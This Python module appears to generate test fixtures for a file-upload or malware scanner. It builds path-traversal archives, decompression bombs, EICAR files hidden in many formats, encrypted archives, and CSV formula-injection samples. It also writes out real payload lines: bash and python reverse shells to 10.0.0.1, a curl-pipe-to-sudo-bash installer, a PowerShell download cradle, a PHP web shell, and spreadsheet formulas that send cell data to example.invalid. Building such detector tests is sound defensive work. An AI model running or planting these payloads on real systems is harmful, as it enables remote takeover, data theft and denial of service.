"""Archives, bombs, the test string, what is locked: which other spellings does each have?"""
import json
import sqlite3
import struct
import tarfile
import tempfile
import zipfile
import zlib
import bz2
import hashlib
import lzma

from build import *  # noqa: F403

GNU = tarfile.GNU_FORMAT
LINK, HARD, CHAR, BLOCK, FIFO = tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE
EXE = [("a.csv", b"1,2\n"), ("setup.exe", PE)]


def link(name, target, kind=LINK):
    return name, b"", {"type": kind, "linkname": target}


def sealed(member):
    """A member whose name stands in the record of Unicode paths alone."""
    name, real = member
    field = struct.pack("<BI", 1, zlib.crc32(name.encode())) + real.encode()
    return zipped([(name, b"x")], extra=struct.pack("<HH", 0x7075, len(field)) + field)


def patched(data, *pairs):
    for old, new in pairs:
        assert old in data and len(old) == len(new)
        data = data.replace(old, new)
    return data


def archives():
    long = "d/" * 60
    data = zipped([("aa.csv", b"1\n"), ("bb.csv", b"2\n")])
    end = data.rindex(b"PK\5\6")
    return [
        ("pax_path.tar", M, tarred([("a", b"x", {"pax_headers": {"path": "../../x"}})])),
        ("pax_link.tar", M, tarred([("a", b"", {"type": LINK, "linkname": "b", "pax_headers": {"linkpath": "/etc/passwd"}})])),
        ("longname.tar", M, tarred([("../" * 40 + "x", b"x")], GNU)),
        ("longlink.tar.gz", M, gz(tarred([link("a", "../" * 40 + "etc/passwd")], GNU))),
        ("deep_up.tar.xz", M, lzma.compress(tarred([(long + "../" * 61 + "x", b"x")]))),
        ("up.tar.zst", M, zst(tarred([("a/../../b", b"x")]))),
        ("hard_out.tgz", M, gz(tarred([link("a", "../../etc/shadow", HARD)]))),
        ("hard_abs.tar", M, tarred([link("a", "/etc/shadow", HARD)])),
        ("chain.tar", M, tarred([link("a", "."), link("a/b", ".."), link("a/b/c", "..")])),
        ("through.tar.bz2", M, bz2.compress(tarred([link("out", "/tmp"), ("out/x", b"x")]))),
        ("block.tar", M, tarred([("sda", b"", {"type": BLOCK, "devmajor": 8})])),
        ("proc.tar", M, tarred([link("a", "/proc/self/environ")])),
        ("pipe.tar.gz", S, gz(tarred([("p", b"", {"type": FIFO})]))),
        ("sticky.tar", S, tarred([("a", b"#!/bin/sh\n", {"mode": 0o6755})])),
        ("ssh.zip", M, zipped([("../../root/.ssh/authorized_keys", b"ssh-rsa AAAA\n")])),
        ("share.zip", M, zipped([("\\\\host\\share\\x.csv", b"1\n")])),
        ("mixed.zip", M, zipped([("a\\..\\..\\x.csv", b"1\n")])),
        ("dots.zip", M, zipped([("a/./../../x.csv", b"1\n")])),
        ("link_abs.zip", M, zipped([zip_link("a", "/etc/passwd")])),
        ("link_through.zip", M, zipped([zip_link("a", ".."), ("a/x", b"1\n")])),
        ("unicode_path.zip", M, sealed(("a.csv", "../x.csv"))),
        ("unicode_other.zip", S, sealed(("a.csv", "b.csv"))),
        ("nested_up.zip", M, zipped([("in.zip", zipped([("in.tar", tarred([("../x", b"x")]))]))])),
        ("exe.tar.zst", S, zst(tarred(EXE))),
        ("exe.tar.xz", S, lzma.compress(tarred(EXE))),
        ("msi.zip", M, zipped([("report.pdf.msi", cfb({"a": b"x"}))])),
        ("scr.zip", M, zipped([("photo.jpg.scr", PE)])),
        ("script.zip", M, zipped([("invoice.js", b'new ActiveXObject("WScript' + b'.Shell").Run("calc")')])),
        ("lnk.zip", M, zipped([("a.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(80))])),
        ("renamed.zip", S, patched(data[: end - 100], (b"aa.csv", b"aa.exe")) + data[end - 100 :]),
        ("stream.zip", S, zipped([("a.csv:hidden.exe", b"1\n")])),
        ("nul.zip", S, patched(zipped([("a.csv_.exe", b"1\n")]), (b"a.csv_.exe", b"a.csv\0.exe"))),
    ]


def number(size):
    """A size of a tar in the binary form."""
    return b"\x80" + size.to_bytes(11, "big")


def tar_claims(size):
    head = bytearray(tarred([("a", b"")])[:512])
    head[124:136] = number(size)
    head[148:156] = b" " * 8
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head) + bytes(1024)


def bombs():
    zeros = bytes(48 << 20)
    packed = zlib.compress(zeros, 9)
    layers = gz(gz(gz(bytes(200 << 20))))
    fan = zipped([("a.txt", b"0" * (4 << 20))])
    for level in range(4):
        fan = zipped([(f"{n}.zip", fan) for n in range(10)])
    book = "<c r='A1'><v>" + "0" * (60 << 20) + "</v></c>"
    quoted = b"PK\3\4\x14\0\0\0\0\0"
    laughs = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)
    )
    uses = "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 12))
    return [
        ("layers.gz", S, layers),
        ("zeros.tar.xz", S, lzma.compress(tarred([("z", zeros)]))),
        ("zeros.csv.zst", S, zst(b"0", run=80 << 20)),
        ("zeros.npz", S, zipped([("a.npy", npy(zeros, "|u1", f"({48 << 20},)"))])),
        ("fan.zip", S, fan),
        ("zeros.svgz", S, gz(b"<svg xmlns='http://www.w3.org/2000/svg'>" + b" " * (40 << 20) + b"</svg>")),
        ("zeros.xlsx", S, xlsx(book)),
        ("zeros.docx", S, docx("<w:p>" + " " * (60 << 20) + "</w:p>")),
        ("zeros.joblib", S, packed),
        ("itxt.png", S, png(chunks=[(b"iTXt", b"k\0\1\0\0\0" + packed)])),
        ("iccp.png", S, png(chunks=[(b"iCCP", b"k\0\0" + packed)])),
        ("tall.png", S, png(1, 0x7FFFFFFF)),
        ("wide.gif", S, gif((65535, 65535))),
        ("wide.jpg", S, jpeg(size=(65535, 65535))),
        ("wide.bmp", S, b"BM" + struct.pack("<IHHIIiiHHIIiiII", 62, 0, 0, 54, 40, 60000, 60000, 1, 24, 0, 8, 0, 0, 0, 0) + bytes(8)),
        ("wide.webp", S, riff(b"WEBP", [(b"VP8X", b"\0\0\0\0" + b"\xff\xff\x3f" * 2), (b"VP8L", b"\x2f" + bytes(15))])),
        ("laughs.yml", S, laughs.encode()),
        ("uses.svg", S, ('<svg xmlns="http://www.w3.org/2000/svg"><circle id="a0"/>' + uses + '<use href="#a11"/></svg>').encode()),
        ("deep.ipynb", S, b'{"nbformat": 4, "cells": [' + b"[" * 100000),
        ("deep.jsonl", S, b"[" * 100000 + b"\n"),
        ("deep.svg", S, b"<svg xmlns='http://www.w3.org/2000/svg'>" + b"<g>" * 100000),
        ("double.pdf", S, pdf([b"<< /Type /Catalog >>", stream(zlib.compress(packed, 9), b"/Filter [/FlateDecode /FlateDecode]")])),
        ("claims.tar", U, tar_claims(1 << 50)),
        ("claims.npy", U, npy(b"", "<f8", "(1099511627776,)")),
        ("claims.npz", U, zipped([("a.npy", npy(b"", "<f8", "(99999999999,)"))])),
        ("claims.wav", U, b"RIFF" + struct.pack("<I", 0xFFFFFFF0) + wav()[8:40] + struct.pack("<I", 0xFFFFFF00)),
        ("claims.safetensors", U, struct.pack("<Q", 1 << 40) + b'{"a":{}}'),
        ("members.zip", S, zipped([(f"{n}.txt", b"") for n in range(10_050)], zipfile.ZIP_STORED)),
        ("boxes.gz", S, b"".join([gz(bytes(4 << 20))] * 12)),
    ]


def sqlite(value):
    with tempfile.NamedTemporaryFile() as file:
        base = sqlite3.connect(file.name)
        base.execute("create table t (v)")
        base.execute("insert into t values (?)", (value,))
        base.commit()
        base.close()
        return open(file.name, "rb").read()


def notebook(outputs=(), cells=(), **more):
    code = {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "1", "outputs": list(outputs)}
    book = {"cells": [code, *cells], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **more}
    return json.dumps(book).encode()


def shown(**data):
    return {"output_type": "display_data", "metadata": {}, "data": {k.replace("__", "/").replace("_", "+"): v for k, v in data.items()}}


def eicars():
    mail = b"From: a@b\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    url = "data:application/octet-stream;base64," + b64(EICAR)
    return [
        ("nested.tar.bz2", M, bz2.compress(tarred([("a.zip", zipped([("a.txt.gz", gz(EICAR))]))]))),
        ("deflated.zip", M, zipped([("a/b/c.com", EICAR)])),
        ("lzma.zip", M, zipped([("a.com", EICAR)], zipfile.ZIP_LZMA)),
        ("bzip2.zip", M, zipped([("a.com", EICAR)], zipfile.ZIP_BZIP2)),
        ("text.tar.zst", M, zst(tarred([("a.txt", EICAR)]))),
        ("cells.npz", M, zipped([("notes.txt", EICAR)])),
        ("a.whl", M, zipped([("a/x.com", EICAR)])),
        ("embedded.docx", M, docx(extra=[("word/embeddings/oleObject1.bin", EICAR)])),
        ("media.pptx", M, pptx(extra=[("ppt/media/image1.png", EICAR)])),
        ("custom.xlsx", M, xlsx(extra=[("customXml/item1.xml", EICAR)])),
        ("old.doc", S, cfb({"WordDocument": bytes(64), "Data": EICAR})),
        ("comment.zip", M, zipped([("a.csv", b"1\n")], comment=EICAR)),
        ("members.gz", M, gz(EICAR) + gz(b"1\n")),
        ("segment.jpg", M, jpeg([(0xFE, EICAR)])),
        ("tail.jpg", M, jpeg(tail=EICAR)),
        ("comment.gif", M, gif(comment=EICAR)),
        ("tail.gif", M, gif(tail=EICAR)),
        ("chunk.wav", M, wav([(b"LIST", b"INFOICMT" + struct.pack("<I", len(EICAR)) + EICAR)])),
        ("own.wav", M, wav([(b"eicr", EICAR)])),
        ("chunk.webp", M, riff(b"WEBP", [(b"VP8L", b"\x2f" + bytes(15)), (b"XMP ", EICAR)])),
        ("packed.png", M, png(chunks=[(b"zTXt", b"k\0\0" + zlib.compress(EICAR))])),
        ("hex.pdf", M, pdf([b"<< /Type /Catalog >>", stream(EICAR.hex().encode() + b">", b"/Type /EmbeddedFile /Filter /ASCIIHexDecode")])),
        ("flate.pdf", M, pdf([b"<< /Type /Catalog >>", stream(zlib.compress(EICAR), b"/Type /EmbeddedFile /Filter /Fl")])),
        ("output.ipynb", M, notebook([shown(image__png=b64(EICAR))])),
        ("attached.ipynb", M, notebook(cells=[{"cell_type": "markdown", "metadata": {}, "source": "x", "attachments": {"a.bin": {"application/octet-stream": b64(EICAR)}}}])),
        ("link.md", M, f"[a]({url})\n".encode()),
        ("image.svg", M, f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}'/></svg>".encode()),
        ("link.html", M, f"<!doctype html><a download='a.com' href='{url}'>a</a>".encode()),
        ("value.sqlite", M, sqlite(EICAR)),
        ("wide.txt", M, EICAR.decode().encode("utf-16")),
        ("mail.eml", M, mail + b64(EICAR).encode() + b"\r\n"),
        ("bytes.pkl", S, b"\x80\x03C" + bytes([len(EICAR)]) + EICAR + b"."),
        ("rows.npy", S, npy(EICAR.ljust(72), "|S72")),
        ("log.csv", S, b"id,text\n1," + EICAR + b"\n"),
    ]


def ciphered(data, password=b"secret"):
    """The cipher of PKWARE, with its head of twelve bytes."""
    table = [0] * 256
    for n in range(256):
        crc = n
        for _ in range(8):
            crc = crc >> 1 ^ (0xEDB88320 if crc & 1 else 0)
        table[n] = crc
    keys = [0x12345678, 0x23456789, 0x34567890]

    def turn(byte):
        keys[0] = keys[0] >> 8 ^ table[(keys[0] ^ byte) & 255]
        keys[1] = ((keys[1] + (keys[0] & 255)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = keys[2] >> 8 ^ table[(keys[2] ^ keys[1] >> 24) & 255]

    for byte in password:
        turn(byte)
    out = b""
    for byte in bytes(11) + bytes([zlib.crc32(data) >> 24]) + data:
        key = keys[2] & 0xFFFF | 2
        out += bytes([byte ^ (key * (key ^ 1) >> 8 & 255)])
        turn(byte)
    return out


def locked_zip(data, local=True):
    """A stored member under the old cipher; the local header may keep it to itself."""
    body = ciphered(data)
    archive = bytearray(zipped([("a.csv", body)], zipfile.ZIP_STORED))
    directory = archive.index(b"PK\1\2")
    for at, says in ((0, local), (directory + 2, True)):
        archive[at + 6] |= says
        archive[at + 14 : at + 18] = struct.pack("<I", zlib.crc32(data))
        archive[at + 22 : at + 26] = struct.pack("<I", len(data))
    return bytes(archive)


def locked(seven, seven_header, rar):
    flagged = locked_zip(b"1,2\n" * 9)
    central = locked_zip(b"1,2\n" * 9, local=False)
    aes = zipped([("a.csv", b"1,2\n" * 9)], zipfile.ZIP_STORED, extra=b"\x01\x99\x07\x00\x02\x00AE\x03\x00\x00")
    aes = bytearray(aes)
    for at in (0, aes.index(b"PK\1\2") + 2):
        aes[at + 6] |= 1
        aes[at + 8] = 99
    book = b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(12) + b"\x2f\x00\x06\x00" + bytes(6) + b"\x0a\x00\x00\x00"
    return [
        ("flag.zip", U, flagged),
        ("flag_central.zip", U, central),
        ("aes.zip", U, bytes(aes)),
        ("locked.7z", U, seven),
        ("locked_header.7z", U, seven_header),
        ("locked.rar", U, rar),
        ("inner.zip", U, zipped([("a.zip", flagged), ("b.csv", b"1\n")])),
        ("inner.tar.xz", U, lzma.compress(tarred([("a.7z", seven)]))),
        ("rc4.pdf", U, pdf([b"<< /Type /Catalog >>", b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -44 >>"], more=b"/Encrypt 2 0 R")),
        ("aes.pdf", U, pdf([b"<< /Type /Catalog >>"], more=b"/Encrypt << /Filter /Standard /V 5 /R 6 /O (a) /U (b) /P -4 >>")),
        ("locked.docx", U, cfb({"EncryptionInfo": b"\4\0\4\0", "EncryptedPackage": bytes(64)})),
        ("locked.pptx", U, cfb({"EncryptionInfo": b"\4\0\2\0", "EncryptedPackage": bytes(64), "\x06DataSpaces/Version": b"x"})),
        ("locked.xls", U, cfb({"Workbook": book})),
        ("locked.doc", U, cfb({"WordDocument": b"\xec\xa5\xc1\x00" + bytes(7) + b"\x01" + bytes(500)})),
        ("in.docx", U, docx(extra=[("word/embeddings/a.zip", flagged)])),
        ("salted.bin", U, b"Salted__" + hashlib.sha512(b"a").digest() * 2),
    ]


def tables():
    cmd = "cm" + "d|' /C calc'!A0"
    wide = lambda text: text.encode("utf-16")
    return [
        ("space.csv", M, f"a,b\n1,  ={cmd}\n".encode()),
        ("tab.csv", M, f'a,b\n1,"\t={cmd}"\n'.encode()),
        ("newline.csv", M, f'a,b\n1,"\n={cmd}"\n'.encode()),
        ("return.csv", M, f'a,b\n1,"\r={cmd}"\n'.encode()),
        ("quoted.csv", M, f'a,b\n1,"={cmd}"\n'.encode()),
        ("semicolon.csv", M, f"a;b\n1;={cmd}\n".encode()),
        ("pipe.csv", M, f"a|b\n1|@SUM(1+1)*{cmd}\n".encode()),
        ("rows.tsv", M, f"a\tb\n1\t={cmd}\n".encode()),
        ("first.csv", M, f"={cmd},b\n".encode()),
        ("sum.csv", M, f"a,b\n1,@SUM(1+9)*{cmd}\n".encode()),
        ("minus.csv", M, f"a,b\n1,-2+3+{cmd}\n".encode()),
        ("plus.csv", M, f"a,b\n1,+1+{cmd}\n".encode()),
        ("number.csv", M, f"a,b\n1,=10+20+{cmd}\n".encode()),
        ("path.csv", M, b"a,b\n1,=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cm" + b"d.exe /c calc.exe'!''\n"),
        ("rundll.csv", M, b"a,b\n1,=rundll32|'URL.dll,OpenURL calc.exe'!A\n"),
        ("office.csv", M, b'a,b\n1,=DDE("cm' + b'd";"/C calc";"__DdeLink_60_870516294")\n'),
        ("call.csv", M, b'a,b\n1,"=CALL(""urlmon"",""URLDownloadToFileA"",""JJCCJJ"",0,""http://example.invalid/a"",""a.exe"",0,0)"\n'),
        ("exec.csv", M, b'a,b\n1,"=EXEC(""calc.exe"")"\n'),
        ("wide.csv", M, wide(f"a,b\n1,={cmd}\n")),
        ("marked.csv", M, b"\xef\xbb\xbf" + f"={cmd},b\n".encode()),
        ("packed.csv.gz", M, gz(f"a,b\n1,={cmd}\n".encode())),
        ("packed.zip", M, zipped([("a.csv", f"a,b\n1,={cmd}\n".encode())])),
        ("import.csv", S, b'a,b\n1,"=IMPORTXML(CONCAT(""http://example.invalid/?x="",A1),""//a"")"\n'),
        ("service.csv", S, b'a,b\n1,"=WEBSERVICE(""http://example.invalid/?x=""&A1)"\n'),
        ("image.csv", S, b'a,b\n1,"=IMAGE(""http://example.invalid/?x=""&A1)"\n'),
        ("link.tsv", S, b'a\tb\n1\t=HYPERLINK("http://example.invalid/?x="&A1&A2,"Error")\n'),
        ("lower.csv", S, b'a,b\n1,=hyperlink("http://example.invalid/","x")\n'),
        ("share.csv", S, b"a,b\n1,='\\\\example.invalid\\share\\[a.xls]S'!A1\n"),
        ("wide_plus.csv", S, "a,b\n1,＋1＋cmd|' /C calc'!A0\n".encode()),
        ("wide_at.csv", S, "a,b\n1,＠SUM(1＋1)*cmd|' /C calc'!A0\n".encode()),
        ("wide_minus.csv", S, "a,b\n1,－2+3+cmd|' /C calc'!A0\n".encode()),
        ("hidden.csv", M, f"a,b\n1,\u200b={cmd}\n".encode()),
    ]


def programs():
    pyc = b"\xcb\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(40)
    jar = zipped([("META-INF/MANIFEST.MF", "Main-Class: A\n"), ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(9))])
    xml = "<?xml version='1.0'?>"
    return [
        ("a.exe", S, PE), ("a.scr", S, PE), ("a.dll", S, PE), ("a.cpl", S, PE), ("a.xll", S, PE), ("model.bin", S, ELF),
        ("a.o", S, ELF), ("lib.dylib", S, b"\xcf\xfa\xed\xfe" + bytes(60)), ("fat", S, b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(60)),
        ("a.deb", S, b"!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n"),
        ("a.rpm", S, b"\xed\xab\xee\xdb\x03\0" + bytes(90)), ("a.pyc", S, pyc), ("a.jar", S, jar), ("classes.dex", S, b"dex\n035\0" + bytes(60)),
        ("a.apk", S, zipped([("AndroidManifest.xml", b"\3\0\x08\0"), ("classes.dex", b"dex\n035\0" + bytes(60))])),
        ("a.crx", S, b"Cr24\3\0\0\0" + bytes(60)),
        ("a.ps1", S, b"Write-Host hello\n"), ("a.cmd", S, b"dir\r\n"), ("a.reg", S, b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n"),
        ("a.vbs", M, b'Set s = CreateObject("WScript' + b'.Shell")\r\ns.Exec "calc"\r\n'),
        ("a.js", M, b'var s = new ActiveXObject("WScript' + b'.Shell"); s.Run("calc");'),
        ("a.wsf", M, b'<job><script language="VBScript">CreateObject("WScript' + b'.Shell").Run "calc"</script></job>'),
        ("a.sct", M, b'<?XML version="1.0"?><scriptlet><registration progid="a"/><script>1</script></scriptlet>'),
        ("a.jse", M, b"#@~^AAAAAA==" + bytes(range(60, 90))), ("a.vbe", M, b"#@~^AAAAAA==abcdef^#~@"),
        ("page.hta", M, b"<html><hta:application/><script>new ActiveXObject('WScript" + b".Shell').Run('calc')</script></html>"),
        ("a.url", M, b"[InternetShortcut]\r\nURL=http://example.invalid/a.exe\r\n"),
        ("b.desktop", M, b"#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\nName=a\nExec=sh -c id\n"),
        ("a.lnk", M, b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(80)),
        ("a.scf", M, b"[Shell]\r\nCommand=2\r\nIconFile=\\\\example.invalid\\share\\a.ico\r\n"),
        ("a.library-ms", M, f"{xml}<libraryDescription xmlns='http://schemas.microsoft.com/windows/2009/library'><simpleLocation><url>\\\\example.invalid\\s</url></simpleLocation></libraryDescription>".encode()),
        ("a.search-ms", M, f"{xml}<persistedQuery version='1.0'><query><scope><include path='\\\\example.invalid\\s'/></scope></query></persistedQuery>".encode()),
        ("a.settingcontent-ms", M, f"{xml}<PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>".encode()),
        ("a.jnlp", M, f"{xml}<jnlp codebase='http://example.invalid'><application-desc main-class='A'/></jnlp>".encode()),
        ("a.application", M, f"{xml}<asmv1:assembly xmlns:asmv1='urn:schemas-microsoft-com:asm.v1'><deployment install='true'/></asmv1:assembly>".encode()),
        ("a.msc", M, f"{xml}<MMC_ConsoleFile ConsoleVersion='3.0'><StringTables/></MMC_ConsoleFile>".encode()),
        ("a.iqy", M, b"WEB\r\n1\r\nhttp://example.invalid/a\r\n"),
        ("a.slk", M, b"ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC(\"calc\")\r\nE\r\n"),
        ("a.chm", S, b"ITSF\3\0\0\0" + bytes(90)),
        ("a.inf", S, b"[Version]\r\nSignature=$CHICAGO$\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n"),
        ("a.sh", S, ("#!/bin/sh\ncu" + "rl -fsSL https://example.invalid/i.sh | sudo bash\n").encode()),
        ("reverse.txt", S, ("bash -i >& /dev/t" + "cp/10.0.0.1/4242 0>&1\n").encode()),
        ("long.log", S, ("power" + "shell.exe -NoP -NonI -W Hidden -Exec Bypass -Command IEX(New-Object Net.WebClient).DownloadString('http://example.invalid/')\n").encode()),
        ("decode.txt", S, ("echo aGk= | base64 -d | ba" + "sh\n").encode()),
        ("shell.php", M, ("<?php sys" + "tem($_GET['c']); ?>").encode()),
        ("python.txt", S, ("python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",1));os.du" + "p2(s.fileno(),0);subprocess.call([\"/bin/sh\"])'\n").encode()),
    ]
